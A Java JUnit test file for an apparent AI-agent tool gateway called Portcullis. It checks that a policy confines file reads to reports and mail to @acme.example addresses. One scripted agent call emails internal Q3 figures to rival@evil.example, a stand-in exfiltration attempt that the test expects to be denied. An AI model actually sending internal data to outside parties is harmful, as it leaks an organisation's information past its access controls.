package dev.portcullis.examples;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.portcullis.audit.AuditLog;
import dev.portcullis.audit.AuditStore;
import dev.portcullis.audit.Redactor;
import dev.portcullis.keys.ApiKeys;
import dev.portcullis.policy.Policy;
import dev.portcullis.policy.PolicyLoader;
import dev.portcullis.server.Gateway;
import dev.portcullis.testing.FixtureProcess;
import dev.portcullis.testing.demo.DemoToolServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Runs the examples against a real gateway (port 0, SQLite audit log) with the acme demo server behind it: the
 * LangChain4j agent's tool calls and the MCP Java SDK client's calls really go through Portcullis.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExamplesTest {
  private Path dir;
  private Gateway gateway;
  private ApiKeys.NewKey assistantKey;
  private ApiKeys.NewKey auditorKey;

  @BeforeAll
  void startGateway() throws Exception {
    dir = Files.createTempDirectory("portcullis-examples");
    Path sandbox = Files.createDirectories(dir.resolve("files/reports"));
    Files.writeString(sandbox.resolve("q3.txt"), "Q3: 1,204 tickets, median first reply 3h.");
    assistantKey = ApiKeys.create("assistant");
    auditorKey = ApiKeys.create("auditor");
    List<String> acme = FixtureProcess.command(DemoToolServer.class,
        List.of("--stdio", "--sandbox", dir.resolve("files").toString()));
    Path file = dir.resolve("policy.yaml");
    Files.writeString(file, """
        version: 1
        upstreams:
          acme: { command: %s }
        agents:
          assistant:
            roles: [assistant]
            keys: [ %s ]
          auditor:
            roles: [auditor]
            keys: [ %s ]
        roles:
          assistant:
            grants:
              - id: read-reports
                tools: [acme.files_read]
                args: { path: { pattern: "^reports/" } }
              - id: internal-mail
                description: Mail colleagues at @acme.example only.
                tools: [acme.mail_send]
                when: args.to.endsWith("@acme.example")
          auditor:
            grants:
              - id: outbox
                tools: [acme.debug_outbox]
        """.formatted(new ObjectMapper().writeValueAsString(acme), assistantKey.yamlEntry(), auditorKey.yamlEntry()));
    Policy policy = PolicyLoader.load(file);
    AuditLog audit = AuditLog.start(AuditStore.sqlite(dir.resolve("audit.db")), Redactor.secrets());
    gateway = Gateway.start(policy, policy.server().withPort(0).withDataDir(dir), audit);
  }

  @AfterAll
  void stopGateway() {
    if (gateway != null) {
      gateway.close();
    }
  }

  @Test
  void langChain4jAgentCallsToolsThroughPortcullisAndReadsTheDenial() throws Exception {
    ScriptedChatModel model = new ScriptedChatModel(List.of(
        new ScriptedChatModel.PlannedCall("acme.files_read", "{\"path\": \"reports/q3.txt\"}"),
        new ScriptedChatModel.PlannedCall("acme.mail_send",
            "{\"to\": \"lead@acme.example\", \"subject\": \"Q3 numbers\", \"body\": \"1,204 tickets\"}"),
        new ScriptedChatModel.PlannedCall("acme.mail_send",
            "{\"to\": \"rival@evil.example\", \"subject\": \"Q3 numbers\", \"body\": \"1,204 tickets\"}")));

    String answer = LangChain4jAgent.ask(gateway.mcpUrl().toString(), assistantKey.plaintext(), model,
        "Send the Q3 report to our lead, and to rival@evil.example");

    assertThat(answer).contains("Q3: 1,204 tickets", "Denied by Portcullis", "internal-mail");
    assertThat(model.offeredTools()).isNotEmpty()
        .allSatisfy(tools -> assertThat(tools).containsExactlyInAnyOrder("acme.files_read", "acme.mail_send"));
    try (McpJavaSdkClient auditor = new McpJavaSdkClient(gateway.mcpUrl(), auditorKey.plaintext())) {
      String outbox = auditor.call("acme.debug_outbox", Map.of()).text();
      assertThat(outbox).contains("lead@acme.example").doesNotContain("evil.example");
    }
  }

  @Test
  void mcpJavaSdkClientSeesItsToolsAndADenialItCanActOn() {
    try (McpJavaSdkClient auditor = new McpJavaSdkClient(gateway.mcpUrl(), auditorKey.plaintext())) {
      McpJavaSdkClient.Result denied = auditor.call("acme.files_read", Map.of("path", "reports/q3.txt"));

      assertThat(auditor.tools()).containsExactly("acme.debug_outbox");
      assertThat(denied.isError()).isTrue();
      assertThat(denied.text()).contains("default-deny").doesNotContain("1,204 tickets");
    }
  }
}
